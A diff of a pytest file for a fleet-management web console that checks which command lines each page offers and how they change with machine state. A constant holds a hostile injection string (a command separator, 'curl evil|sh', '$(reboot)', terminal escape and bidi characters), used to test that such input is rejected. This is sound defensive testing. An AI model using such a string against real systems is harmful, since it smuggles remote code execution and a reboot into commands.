@@ -11,11 +11,13 @@ from shepherdctl.options import REASON_TO_WRITE
 from tests.support.bmdb.fleet import Fleet
 from tests.support.console import Visitor, commands, parsed, plant_hostile_text
 
+RELEASE = "INSERT INTO machine_release VALUES (:id, now(), 'ana',"
 HOSTILE = "srv-1; curl evil|sh \"'$(reboot)\n\x1b[201~\u202e"
 
 
-def written(line: str) -> str:
-    return line.replace(REASON_TO_WRITE, "why")
+def names(page: str) -> list[str]:
+    """Return the names of a page's commands, as the real command line reads them when a reason is written."""
+    return [parsed(line.replace(REASON_TO_WRITE, "why"))[0] for line in commands(page)]
 
 
 @pytest.fixture
@@ -40,14 +42,26 @@ def test_every_page_shows_commands_that_can_be_typed(visitor: Visitor, fleet: Fl
         f"/machines/{hostile}": ["resume", "machine reboot", "machine release", "logs", "history"],
         "/work": ["resume", "machine release"],
     }
-    for path, names in expected.items():
-        assert [parsed(written(line))[0] for line in commands(visitor.read(path))] == names, path
+    assert {path: names(visitor.read(path)) for path in expected} == expected
     filtered = visitor.get("/machines?location=" + HOSTILE).text
     assert commands(filtered) == []
     assert "A filter has a character that cannot be typed" in filtered
 
 
-def test_the_commands_of_a_machine_are_for_it_alone(visitor: Visitor, machine_id: UUID) -> None:
+@pytest.mark.parametrize(
+    ("change", "more", "less"),
+    [
+        ("INSERT INTO machine_quarantine VALUES (:id, now(), '?', 'steps-used-up')", {"machine unquarantine"}, set()),
+        ("DELETE FROM work_backoff WHERE machine_id = :id", set(), {"machine retry", "machine forget-host-key"}),
+        ("UPDATE work_backoff SET kind = 'ssh-refused' WHERE machine_id = :id", set(), {"machine forget-host-key"}),
+        ("INSERT INTO pauses (machine_id, owner, reason) VALUES (:id, 'ana', '?')", {"resume"}, {"pause"}),
+        (f"{RELEASE} '?')", set(), {"machine reboot"}),
+        (f"{RELEASE} '?', now())", set(), {"machine reboot", "machine release"}),
+    ],
+)
+def test_the_commands_of_a_machine_follow_its_state(
+    visitor: Visitor, fleet: Fleet, machine_id: UUID, change: str, more: set[str], less: set[str]
+) -> None:
     page = visitor.read(f"/machines/{machine_id}")
     assert commands(page) == [
         f"shepherdctl machine retry {machine_id} --reason '…'",
@@ -58,34 +72,9 @@ def test_the_commands_of_a_machine_are_for_it_alone(visitor: Visitor, machine_id
         f"shepherdctl logs {machine_id}",
     ]
     assert page.partition("<footer")[0].count(' class="copy"') == 6
-    for line in commands(page):
-        assert parsed(written(line))
-
-
-@pytest.mark.parametrize(
-    ("change", "more", "less"),
-    [
-        ("INSERT INTO machine_quarantine VALUES (:id, now(), '?', 'steps-used-up')", {"machine unquarantine"}, set()),
-        ("DELETE FROM work_backoff WHERE machine_id = :id", set(), {"machine retry", "machine forget-host-key"}),
-        ("UPDATE work_backoff SET kind = 'ssh-refused' WHERE machine_id = :id", set(), {"machine forget-host-key"}),
-        ("INSERT INTO pauses (machine_id, owner, reason) VALUES (:id, 'ana', '?')", {"resume"}, {"pause"}),
-        ("INSERT INTO machine_release VALUES (:id, now(), 'ana', '?')", set(), {"machine reboot"}),
-        (
-            "INSERT INTO machine_release VALUES (:id, now(), 'ana', '?', now())",
-            set(),
-            {"machine reboot", "machine release"},
-        ),
-    ],
-)
-def test_the_commands_follow_the_state_of_the_machine(
-    visitor: Visitor, fleet: Fleet, machine_id: UUID, change: str, more: set[str], less: set[str]
-) -> None:
-    def names() -> set[str]:
-        return {parsed(written(line))[0] for line in commands(visitor.read(f"/machines/{machine_id}"))}
-
-    before = names()
     fleet.change(change.replace(":id", f"'{machine_id}'"))
-    assert names() == (before | more) - less
+    before, after = names(page), names(visitor.read(f"/machines/{machine_id}"))
+    assert set(after) == ({*before} | more) - less
 
 
 def test_a_page_can_be_sent_to_a_colleague(visitor: Visitor, machine_id: UUID) -> None:
@@ -94,13 +83,10 @@ def test_a_page_can_be_sent_to_a_colleague(visitor: Visitor, machine_id: UUID) -
         sent = unescape(visitor.read(path).partition("<footer")[2].partition('<code class="command">')[2])
         name, options = parsed(sent.partition("</code>")[0])
         assert name == "console"
-        for page in (
-            options["page"],
-            "http://127.0.0.1:1" + options["page"],
-            options["page"].replace("?", "?token=x&"),
-        ):
+        page = options["page"]
+        for address in (page, f"http://127.0.0.1:1{page}", page.replace("?", "?token=x&")):
             opened = Visitor(visitor.access, enters=False)
-            response = opened.session.get(visitor.access.opening(page), timeout=30)
+            response = opened.session.get(visitor.access.opening(address), timeout=30)
             target = unescape(response.text.partition("0;url=")[2].partition('"')[0])
             assert opened.read(target) != ""
             assert unquote_plus(target) == unquote_plus(path)
